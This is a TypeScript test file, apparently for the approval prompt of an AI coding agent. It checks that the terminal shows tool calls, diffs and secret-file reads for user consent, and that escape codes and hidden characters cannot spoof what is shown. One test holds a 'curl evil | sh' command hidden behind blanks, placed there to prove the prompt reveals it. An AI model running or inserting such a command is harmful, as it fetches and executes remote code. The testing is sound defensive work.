import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { openMemoryTerminal } from '../../test/memory-terminal.ts';
import { sampleRequest, secretRequest } from '../../test/sample-request.ts';
import { openLineReader } from '../terminal/line-reader.ts';
import type { ReadLine } from '../terminal/piped-input.ts';
import { createPainter, measureWidth, splitVisibleDiff, splitVisibleLines } from '../terminal/terminal-text.ts';
import { askAtTerminal, askQuestion, renderApproval } from './ask-approval.ts';

function setUp(...answers: readonly (string | ReadLine)[]) {
  const ahead = answers.map((answer): ReadLine =>
    typeof answer === 'string' ? { kind: 'line', text: answer } : answer,
  );
  const prompts: string[] = [];
  const terminal = openMemoryTerminal({ interactive: true });
  let interrupts = 0;
  const fresh = async (prompt: string): Promise<ReadLine> => {
    prompts.push(prompt);
    return ahead.shift() ?? { kind: 'end' };
  };
  const ask = askAtTerminal({ terminal, reader: { fresh, onInterrupt: () => interrupts++ } });
  const reply = (request = sampleRequest()) => ask(request, new AbortController().signal);
  return { terminal, prompts, interrupts: () => interrupts, reply };
}

it('asks about one thing or several', async () => {
  const prompts: string[] = [];
  const fresh = async (prompt: string): Promise<ReadLine> => {
    prompts.push(prompt);
    return { kind: 'end' };
  };
  const keyboard = {
    terminal: openMemoryTerminal({ interactive: true }),
    reader: { fresh, onInterrupt: () => undefined },
  };
  const { signal } = new AbortController();
  await askQuestion({ verb: 'trust', choices: [['no', 'no', 1]] }, keyboard, signal);
  await askQuestion({ verb: 'follow', object: 'them', choices: [['no', 'no', 1]] }, keyboard, signal);
  expect(prompts).toEqual(['trust it? n = no: ', 'follow them? n = no: ']);
});

describe('askAtTerminal', () => {
  it('shows the call and accepts one of the choices', async () => {
    const { terminal, prompts, reply } = setUp('y', 'a', 'n');
    expect([await reply(), await reply(), await reply()]).toEqual([
      { decision: 'allow' },
      { decision: 'allow', remember: 'tool' },
      { decision: 'deny' },
    ]);
    expect(terminal.out.text.split('\n').slice(0, 2)).toEqual([
      '? <W:a.txt> in home changes something here:',
      '  path: a.txt',
    ]);
    expect(prompts[0]).toBe('run it? y = yes, a = always write in home, n = no: ');
  });

  it('offers the folder where the file is in one', async () => {
    const { prompts, reply } = setUp('f', ' FOLDER ');
    const inFolder = sampleRequest({ target: 'docs/guide/a.md' });
    expect([await reply(inFolder), await reply(inFolder)]).toEqual([
      { decision: 'allow', remember: 'target' },
      { decision: 'allow', remember: 'target' },
    ]);
    expect(prompts[0]).toBe('run it? y = yes, a = always write in home, f = always write below docs/guide/, n = no: ');
  });

  it('remembers a command as it is', async () => {
    const { prompts, terminal, reply } = setUp('f', 'a');
    const command = sampleRequest({ tool: 'exec', target: 'command:cat docs/a.md', effect: 'external' });
    expect(await reply(command)).toEqual({ decision: 'allow', remember: 'target' });
    expect(prompts).toEqual(Array(2).fill('run it? y = yes, a = always exactly this, n = no: '));
    expect(terminal.out.text).toContain('in home runs a program:');
  });

  it('accepts f only where it is offered', async () => {
    const { prompts, reply } = setUp('f', 'n');
    expect(await reply()).toEqual({ decision: 'deny' });
    expect(prompts).toHaveLength(2);
  });

  it('remembers a secret for its file only', async () => {
    const { prompts, reply } = setUp('a', 'f', 'n');
    const secret = secretRequest({ target: 'deploy/.env' });
    expect(await reply(secret)).toEqual({ decision: 'allow', remember: 'target' });
    expect(await reply(secret)).toEqual({ decision: 'deny' });
    expect(prompts[0]).toBe('run it? y = yes, a = always for deploy/.env, n = no: ');
  });

  it('asks about what a run block has changed as a whole, or file by file', async () => {
    const files = ['a.txt', 'b.txt'].map((path) => ({ path, preview: `+++ ${path}\n+x\n`, texts: [] }));
    const preview = async () => files.map((file) => file.preview).join('');
    const block = sampleRequest({ tool: 'run', tag: '<run>', target: '', touches: ['a.txt', 'b.txt'], files, preview });
    const { terminal, prompts, reply } = setUp('y', 'f', 'n', 'y', 'f', 'n', 'n', 'a', 'n');
    expect(await reply(block)).toEqual({ decision: 'allow' });
    expect(await reply(block)).toEqual({ decision: 'allow', only: ['b.txt'] });
    expect(await reply(block)).toEqual({ decision: 'deny' });
    // Nothing that would hold for later is offered.
    expect(await reply(block)).toEqual({ decision: 'deny' });
    expect(terminal.out.text.split('\n')[0]).toBe('? <run>, 2 files, in home changes something here:');
    expect(prompts.slice(0, 3)).toEqual([
      'run it? y = yes, all of it, f = file by file, n = no: ',
      'run it? y = yes, all of it, f = file by file, n = no: ',
      'change it? y = yes, a.txt, n = no: ',
    ]);
  });

  it('shows the whole change for d, and asks again', async () => {
    const { terminal, prompts, reply } = setUp('d', 'y');
    const diff = Array.from({ length: 40 }, (_, index) => `+line ${index + 1}`).join('\n');
    expect(await reply(sampleRequest({ preview: async () => diff }))).toEqual({ decision: 'allow' });
    expect(prompts).toEqual(Array(2).fill('run it? y = yes, a = always write in home, n = no, d = the whole change: '));
    const lines = terminal.out.text.trimEnd().split('\n');
    expect([lines[20], lines[21], lines[22], lines.at(-1)]).toEqual([
      '  +line 20',
      '  … 20 more lines',
      '  +line 1',
      '  +line 40',
    ]);
  });

  it('asks although the tool cannot show what would change', async () => {
    const { terminal, reply } = setUp('y');
    const preview = () => Promise.reject(new RangeError('a.txt has 1 line.'));
    expect(await reply(sampleRequest({ preview }))).toEqual({ decision: 'allow' });
    expect(terminal.out.text).toContain('  it would fail: RangeError: a.txt has 1 line.\n');
  });

  it('asks again until it understands', async () => {
    const { prompts, reply } = setUp('', 'sure', 'ja', 'yes');
    expect(await reply()).toEqual({ decision: 'allow' });
    expect(prompts).toHaveLength(4);
  });

  it('takes the end of the input for no', async () => {
    const { interrupts, reply } = setUp({ kind: 'end' });
    expect(await reply()).toEqual({ decision: 'deny' });
    expect(interrupts()).toBe(0);
  });

  it('takes Ctrl-C for no, and for stopping everything', async () => {
    const { interrupts, reply } = setUp({ kind: 'interrupt', isRepeated: false });
    expect(await reply()).toEqual({ decision: 'deny' });
    expect(interrupts()).toBe(1);
  });

  it('gives the question up when the turn is cancelled', async () => {
    const terminal = openMemoryTerminal({ interactive: true });
    const reader = openLineReader(terminal);
    const ask = askAtTerminal({ terminal, reader });
    const turn = new AbortController();
    const reply = ask(sampleRequest(), turn.signal);
    await terminal.out.shows('? <W:a.txt>');
    turn.abort();
    expect(await reply).toEqual({ decision: 'deny' });
    reader.close();
  });

  it('does not ask any more when the turn was cancelled while it looked at the change', async () => {
    const { terminal, prompts } = setUp('y');
    const turn = new AbortController();
    const ask = askAtTerminal({ terminal, reader: { fresh: async () => ({ kind: 'end' }), onInterrupt() {} } });
    const preview = async () => {
      turn.abort();
      return '+x';
    };
    expect(await ask(sampleRequest({ preview }), turn.signal)).toEqual({ decision: 'deny' });
    expect([terminal.out.text, prompts]).toEqual(['', []]);
  });
});

const plain = (_: string, text: string) => text;
const style = { columns: 40, rows: 24, paint: plain };
const change = (text: string) => ({ change: text });

describe('renderApproval', () => {
  it('shows what would change', () => {
    const diff = '--- a.txt\n+++ a.txt\n@@ -1,2 +1,2 @@\n one\n-two\n+three\n';
    expect(renderApproval(sampleRequest(), change(diff), style)).toMatchObject({
      clipped: false,
      text: `\
? <W:a.txt> in home changes something here:
  --- a.txt
  +++ a.txt
  @@ -1,2 +1,2 @@
   one
  -two
  +three`,
    });
  });

  it('colours what would change', () => {
    const diff = '--- a.txt\n+++ a.txt\n@@ -1 +1 @@\n--- two\n+three\n';
    const { text } = renderApproval(sampleRequest(), change(diff), { ...style, paint: createPainter({ color: true }) });
    expect(text.replaceAll('\u001B', '^')).toBe(`\
^[33m?^[0m ^[1m<W:a.txt>^[0m in home changes something here:
^[1m  --- a.txt^[0m
^[1m  +++ a.txt^[0m
^[33m  @@ -1 +1 @@^[0m
^[31m  --- two^[0m
^[38;2;135;255;135m  +three^[0m`);
  });

  it('shows as much as the screen holds, and shows how much is left', () => {
    const diff = Array.from({ length: 30 }, (_, index) => `+line ${index + 1}`).join('\n');
    const { text, clipped } = renderApproval(sampleRequest(), change(diff), { ...style, rows: 11 });
    expect(text.split('\n').slice(-2)).toEqual(['  +line 7', '  … 23 more lines']);
    expect(clipped).toBe(true);
    const tiny = renderApproval(sampleRequest(), change('+1\n+2\n+3\n+4\n+5\n+6\n'), { ...style, rows: 2 });
    expect(tiny.text.split('\n').slice(-2)).toEqual(['  +5', '  … 1 more line']);
  });

  it('lets nothing in a change act on the terminal, or pass for its own words', () => {
    const diff = `+\u001B[2J\u202Ex\n+${'y'.repeat(100)}\nrun it? y = yes: y\n`;
    expect(renderApproval(sampleRequest(), change(diff), style).text.split('\n').slice(1)).toEqual([
      '  +␛[2J<U+202E>x',
      `  +${'y'.repeat(37)}`,
      `  ↪ ${'y'.repeat(36)}`,
      `  ↪ ${'y'.repeat(27)}`,
      '  run it? y = yes: y',
    ]);
  });

  it('reports when nothing would change', () => {
    expect(renderApproval(sampleRequest(), change(''), style).text).toMatch(/\n {2}\(nothing would change\)$/);
  });

  it('shows how the body begins where the tool cannot tell what would change', () => {
    const content = Array.from({ length: 20 }, (_, index) => `line ${index + 1}`).join('\n');
    const request = sampleRequest({ args: { path: 'a.txt', content } });
    const shown = renderApproval(request, {}, { ...style, rows: 14 });
    expect(shown.whole.at(-1)).toBe('  | line 20');
    expect(shown).toMatchObject({
      clipped: true,
      text: `\
? <W:a.txt> in home changes something here:
  path: a.txt
  content:
  | line 1
  | line 2
  | line 3
  | line 4
  | line 5
  | line 6
  | line 7
  | line 8
  … 12 more lines`,
    });
  });

  it('explains why the call would fail', () => {
    const failure = { failure: 'EditError: text not found.\nmore' };
    expect(renderApproval(sampleRequest(), failure, style).text).toBe(`\
? <W:a.txt> in home changes something here:
  path: a.txt
  it would fail: EditError: text not found.⏎more`);
  });

  it('explains why consent is needed for a call that changes nothing', () => {
    expect(renderApproval(secretRequest(), {}, style).text).toBe(`\
? <R:.env> in home needs consent, because it may hold secrets:
  target: .env`);
  });

  it('hides nothing that would act on the terminal, and divides long lines', () => {
    const args = { title: `\u001B[1A${'x'.repeat(100)}`, count: 3, none: undefined };
    const request = sampleRequest({ space: 'github', effect: 'external', tag: '<create:\u202Ex>', args });
    expect(renderApproval(request, {}, style).text).toBe(`\
? <create:<U+202E>x> in github reaches beyond this machine:
  title: ␛[1Axxxxxxxxxxxxxxxxxxxxxxxxxxx
  ↪ xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx
  ↪ xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx
  ↪ x
  count: 3
  none: `);
  });

  /** Ordinary, wide and combined characters, and those that hide, move or forge what is shown. */
  const HIDDEN =
    '\u202E\u2066\u2069\u200F\u001B\u009B\u0007\b\r\u0000\u007F\u200B\u200D\u2060\uFEFF\u00AD\u034F\u3164\u00A0\u2003\u2800\u{E0041}\u{E0101}\u2028\u0085';
  const UNITS = [
    ...Array.from('aZ -+;|漢é😀e\u0301'),
    ...Array.from(HIDDEN),
    '👩‍💻',
    '\uFE0F',
    '\uD800',
    '\t',
    '\n',
    '\r\n',
    '  ↪ ',
    '  … 9 more lines\n',
    'run it? y\n',
  ];
  const someText = fc
    .array(
      fc.oneof(
        { weight: 9, arbitrary: fc.constantFrom(...UNITS) },
        fc.constantFrom('x'.repeat(5000), ' '.repeat(300), '漢'.repeat(250)),
      ),
      {
        minLength: 1,
        maxLength: 120,
      },
    )
    .map((units) => units.join(''));
  /** A text as it has to be shown, and nothing that a terminal obeys, or that takes no room, in it. */
  function expectShown(lines: readonly string[], prefix: string, some: string): void {
    const joined = lines.map((line) => (line.startsWith('  ↪ ') ? line.slice(4) : `\n${line}`)).join('');
    const wanted = (prefix === '  ' ? splitVisibleDiff(some) : splitVisibleLines(some))
      .map((line) => `\n${prefix}${line}`)
      .join('');
    // A line that begins like the rest of another one is shown, too: it is joined to the one before.
    expect(joined.replaceAll('\n  ↪ ', '')).toBe(wanted.replaceAll('\n  ↪ ', ''));
    expect(Array.from(HIDDEN).filter((character) => joined.includes(character))).toEqual([]);
  }

  it('shows or offers every character of a change, at any width', () => {
    const shape = fc.tuple(someText, fc.constantFrom(40, 80, 200), fc.integer({ min: 1, max: 60 }));
    fc.assert(
      fc.property(shape, ([some, columns, rows]) => {
        const { text, clipped, whole } = renderApproval(sampleRequest(), change(some), { ...style, columns, rows });
        expectShown(whole, '  ', some);
        expect(whole.every((line) => measureWidth(line) <= columns)).toBe(true);
        const shown = text.split('\n').slice(1);
        if (!clipped) expect(shown).toEqual(whole);
        else
          expect(shown).toEqual([
            ...whole.slice(0, shown.length - 1),
            `  … ${whole.length - shown.length + 1} more ${whole.length - shown.length === 0 ? 'line' : 'lines'}`,
          ]);
      }),
    );
  });

  it('shows or offers every character of the arguments where there is no other description', () => {
    fc.assert(
      fc.property(someText, fc.constantFrom(40, 80, 200), (some, columns) => {
        const request = sampleRequest({ args: { content: some } });
        const { whole } = renderApproval(request, {}, { ...style, columns, rows: 20 });
        const isOneLine = splitVisibleLines(some).length === 1;
        if (isOneLine) expectShown(whole, '  content: ', some);
        else expectShown(whole.slice(1), '  | ', some);
        expect(whole.every((line) => measureWidth(line) <= columns)).toBe(true);
      }),
    );
  });

  it('shows a change of blanks, and no others', () => {
    const diff = ' \tsame \n-\tone\n-two\n-four\t4\n+  one\n+two \n+three\t \n+four\t4\n';
    expect(renderApproval(sampleRequest(), change(diff), style).whole).toEqual([
      '     same ',
      '  -→ one',
      '  -two',
      '  -four  4',
      '  +  one',
      '  +two·',
      '  +three   ',
      '  +four  4',
    ]);
  });

  it('shows a change of line breaks', () => {
    expect(renderApproval(sampleRequest(), change('-one\r\n+one\n'), style).whole).toEqual(['  -one␍', '  +one']);
  });

  it('hides no command behind blanks', () => {
    const { text } = renderApproval(sampleRequest(), change(`+echo ok${' '.repeat(200)}; curl evil | sh`), style);
    expect(text.replaceAll(/\n  ↪ /g, '')).toContain('; curl evil | sh');
  });
});
